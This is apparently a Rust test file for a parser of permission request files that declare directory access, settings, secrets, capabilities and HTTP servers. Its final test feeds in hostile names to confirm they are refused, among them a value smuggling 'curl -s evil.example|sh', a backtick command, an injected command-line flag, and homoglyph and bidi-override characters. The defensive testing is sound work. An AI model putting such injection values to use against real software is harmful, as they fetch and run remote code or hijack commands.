use super::*;

#[test]
fn a_star_matches_one_part() {
    for (pattern, name, expected) in [
        ("left", "left", true),
        ("left", "right", false),
        ("*.left", "docs.left", true),
        ("*.left", "left", false),
        ("*.left", "a.b.left", false),
        ("*", "left", true),
        ("*", "a.b", false),
    ] {
        assert_eq!(matches(pattern, name), expected, "{pattern} for {name}");
    }
}

#[test]
fn requests_are_parsed() {
    let requests = Requests::parse(
        br#"
        [directories]
        left = { access = "read-only", why = "a" }
        "*" = { access = "read-write" }
        [settings]
        mode = "b"
        [secrets]
        token = "c"
        [allow]
        wall-clock = "d"
        [http]
        remote = { access = "read-write", why = "e" }
        api = { url = "https://api.example.com" }
        "#,
    )
    .unwrap();
    assert_eq!(requests.directory("left"), Some(Access::ReadWrite));
    assert_eq!(requests.directory("a.b"), None);
    assert!(requests.setting("mode").is_some() && requests.setting("token").is_none());
    assert!(requests.secret("token") && !requests.secret("mode"));
    assert!(requests.capability(Capability::WallClock));
    assert!(!requests.capability(Capability::Randomness));
    assert_eq!(requests.server("remote").unwrap().access, Access::ReadWrite);
    let api = requests.server("api").unwrap();
    assert_eq!((api.access, api.url.is_some()), (Access::ReadOnly, true));
    assert_eq!(requests.server("other"), None);
    assert!(Requests::parse(b"").unwrap().is_empty());
}

#[test]
fn a_declared_setting_precedes_a_pattern() {
    let requests = Requests::parse(
        br#"
        [settings]
        "*" = "any"
        "*.*" = "any of an item"
        durable = { type = "boolean", per-item = true }
        "#,
    )
    .unwrap();
    for (name, values) in [
        ("durable", Some(SettingValues::Boolean)),
        ("docs.durable", Some(SettingValues::Boolean)),
        ("other", Some(SettingValues::Text)),
        ("docs.other", Some(SettingValues::Text)),
        ("a.b.other", None),
    ] {
        let found = requests.setting(name).map(|request| request.values.clone());
        assert_eq!(found, values, "{name}");
    }
    for (name, similar) in [
        ("durabel", Some("durable")),
        ("docs.dureable", Some("durable")),
        ("Durable", Some("durable")),
        ("mode", None),
        ("", None),
    ] {
        assert_eq!(requests.similar_setting(name), similar, "{name}");
    }
}

#[test]
fn invalid_requests_are_refused() {
    let many: String = (0..=MAX_ENTRIES).map(|n| format!("n{n} = \"\"\n")).collect();
    let many = format!("[settings]\n{many}");
    let long = format!("[settings]\n{} = \"\"", "x".repeat(256));
    let large = " ".repeat(SECTION_BYTES + 1);
    for text in [
        &b"\xff"[..],
        b"[",
        b"[other]",
        b"[allow]\ntime-travel = \"\"",
        b"[directories]\nleft = \"read-write\"",
        b"[directories]\nleft = { access = \"all\" }",
        b"[settings]\n\"\" = \"\"",
        many.as_bytes(),
        long.as_bytes(),
        large.as_bytes(),
    ] {
        let refused = Requests::parse(text);
        let shown = String::from_utf8_lossy(&text[..text.len().min(40)]);
        assert!(matches!(refused, Err(ContractError::Requests { .. })), "{shown}");
    }
}

#[test]
fn names_with_shell_characters_are_refused() {
    let tables = ["directories", "settings", "secrets", "http"];
    for (name, good) in [
        ("left", [true; 4]),
        ("*.My_docs-2", [true; 4]),
        ("*.example.com", [true; 4]),
        ("local:https://[::1]:8080", [false; 4]),
        ("source=$HOME;curl -s evil.example|sh;#", [false; 4]),
        ("inbox=/ --allow wall-clock --dir x", [false; 4]),
        ("s\u{43e}urce", [false; 4]),
        ("mode=`id`", [false; 4]),
        ("token=env:HOME", [false; 4]),
        ("a b", [false; 4]),
        ("a\nb", [false; 4]),
        ("a\u{202e}b", [false; 4]),
        ("a/b", [false; 4]),
        ("~", [false; 4]),
        ("a'b", [false; 4]),
        ("!a", [false; 4]),
    ] {
        for (table, good) in tables.iter().zip(good) {
            let key = toml::Value::String(name.to_owned());
            let value = match *table {
                "directories" | "http" => "{ access = \"read-only\" }",
                _other => "\"why\"",
            };
            let text = format!("[{table}]\n{key} = {value}\n");
            let parsed = Requests::parse(text.as_bytes());
            assert_eq!(parsed.is_ok(), good, "{text}: {parsed:?}");
        }
    }
}
